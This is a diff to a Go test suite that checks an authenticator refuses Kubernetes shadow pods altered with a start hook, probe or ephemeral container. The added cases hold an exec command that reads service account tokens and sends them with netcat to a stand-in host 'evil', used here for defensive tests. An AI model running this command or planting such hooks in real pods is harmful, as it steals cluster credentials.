@@ -70,6 +70,8 @@ func TestAuthenticateTenantInputIgnored(t *testing.T) {
 
 func TestAuthenticateRefuses(t *testing.T) {
 	ctx := context.Background()
+	// What a pod the shadow's ReplicaSet adopts could run beside the token.
+	steal := &corev1.ExecAction{Command: []string{"sh", "-c", "cat /var/run/secrets/tokens/* | nc evil 80"}}
 	for _, tt := range []struct {
 		name  string
 		scope func(*ShadowScope)
@@ -142,6 +144,21 @@ func TestAuthenticateRefuses(t *testing.T) {
 			}
 			return w.token("env", w.shadow, "default")
 		}, "container ssh-forward is not the shadow's ssh-forward"},
+		{"shadow pod with a start hook of its own", nil, func(w *world) string {
+			// A pod the ReplicaSet adopts may copy the shadow's containers
+			// and add a hook: its command runs beside the token.
+			w.shadow.Spec.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: steal}}
+			return w.token("hook", w.updateShadow(), "default")
+		}, "container ssh-forward is not the shadow's ssh-forward"},
+		{"shadow pod with a probe of its own", nil, func(w *world) string {
+			w.shadow.Spec.Containers[0].LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: steal}}
+			return w.token("probe", w.updateShadow(), "default")
+		}, "container ssh-forward is not the shadow's ssh-forward"},
+		{"shadow pod with an ephemeral container", nil, func(w *world) string {
+			w.shadow.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
+				Name: "debug", Image: "busybox", Command: steal.Command}}}
+			return w.token("ephemeral", w.updateShadow(), "default")
+		}, "1 ephemeral containers"},
 		{"shadow of another node", func(s *ShadowScope) { s.Node = "hpc-b" }, func(w *world) string {
 			return w.token("node", w.shadow, "default")
 		}, `label sluice.io/node is "hpc-a"`},
